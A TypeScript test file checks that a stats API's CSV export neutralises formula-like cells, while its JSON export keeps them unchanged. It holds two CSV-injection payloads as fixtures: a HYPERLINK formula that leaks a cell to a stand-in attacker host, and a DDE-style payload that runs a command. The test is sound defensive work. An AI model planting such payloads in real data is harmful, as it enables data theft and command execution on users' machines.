/**
 * `GET /v1/stats/export?format=csv` with names an attacker chose: a reviewer key named like a
 * spreadsheet formula, a detector category starting with `@`. Opened in a spreadsheet, the
 * export must show them as text, not run them; the JSON export keeps them as they are.
 */
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { foldStats } from '../../analytics/rollup/fold.ts';
import { startHarness, type Harness } from '../../test/harness.ts';
import { seedReviewItems } from '../../test/review-fixtures.ts';

const KEY_NAME = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Reviewer")';
const CATEGORY = '@SUM(1+1)*cmd|" /C calc"!A0';

describe('CSV exports neutralise formula-like cells', () => {
  let h: Harness;
  let analyst: string;
  let range: string;
  beforeAll(async () => {
    h = await startHarness({ api: true });
    analyst = await h.key('analyst');
    const reviewerKey = await h.key('reviewer', { name: KEY_NAME });
    const reviewerId = reviewerKey.split('_')[1]!;
    const [item] = await seedReviewItems(h.db, [{ status: 'confirmed', category: CATEGORY }]);
    await h.db.prisma.decision.create({
      data: { reviewItemId: item!.id, postId: item!.postId, actor: reviewerId, action: 'confirm', reasonCode: 'smuggling' },
    });
    await foldStats(h.db, { wait: true });
    const today = new Date().toISOString().slice(0, 10);
    range = `from=${today}&to=${today}`;
  });
  afterAll(async () => h?.close());

  const exported = async (table: string, format: 'csv' | 'json') => {
    const res = await h.request('GET', `/v1/stats/export?${range}&table=${table}&format=${format}`, { key: analyst });
    expect(res.status, await res.clone().text()).toBe(200);
    return res.text();
  };

  it('prefixes a key name starting with = in the reviewers table', async () => {
    const text = await exported('reviewers', 'csv');
    expect(text).not.toMatch(/(^|,|")=HYPERLINK/m);
    const rows = parse(text, { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.name)).toEqual([`'${KEY_NAME}`]);
    expect(rows[0]!.decisions).toBe('1');
    // JSON is not a spreadsheet format: the name is kept exactly.
    expect((JSON.parse(await exported('reviewers', 'json')) as { name: string }[]).map((r) => r.name)).toEqual([KEY_NAME]);
  });

  it('prefixes a category starting with @ in the categories table', async () => {
    const rows = parse(await exported('categories', 'csv'), { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.category)).toContain(`'${CATEGORY}`);
    expect(rows.map((r) => r.category)).not.toContain(CATEGORY);
  });
});
